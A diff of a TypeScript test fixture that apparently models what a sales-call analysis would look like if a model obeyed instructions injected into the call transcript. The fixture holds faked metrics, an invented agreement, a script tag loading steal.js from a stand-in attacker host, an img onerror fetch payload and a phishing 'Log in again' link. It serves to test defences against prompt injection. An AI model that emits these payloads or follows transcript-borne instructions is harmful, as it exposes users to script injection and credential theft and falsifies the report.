@@ -6,7 +6,7 @@ const script = `<script src="${evil}/steal.js"></script><img src=x onerror="fetc
 const link = `[Log in again](${evil}/login)`;
 const invented = 'We sign today, at twice the price.';
 
-/** Everything that a transcript could order a model to say; nothing in it was said in any call. */
+/** Everything that instructions in a transcript could make a model say. No call contains any of it. */
 export const obedientAnalysis = {
   talk_to_listen_ratio: { sales_rep: 1, customer: 99 },
   objection_count: 0,
@@ -20,7 +20,7 @@ export const obedientAnalysis = {
   longest_monologue_duration: 0,
   questions_asked: { sales_rep: [`Shall we? ${picture}`], customer: [script] },
   actionable_insights: `Perfect call. ${picture}\n${script}\n${link}`,
-  // Told rightly: a test compares the numbers of a side with those of an honest answer.
+  // Correct, because a test compares the numbers of a side with those of a correct analysis.
   speaker_roles: [
     { speaker: 'A', role: 'sales_rep' },
     { speaker: 'B', role: 'customer' },
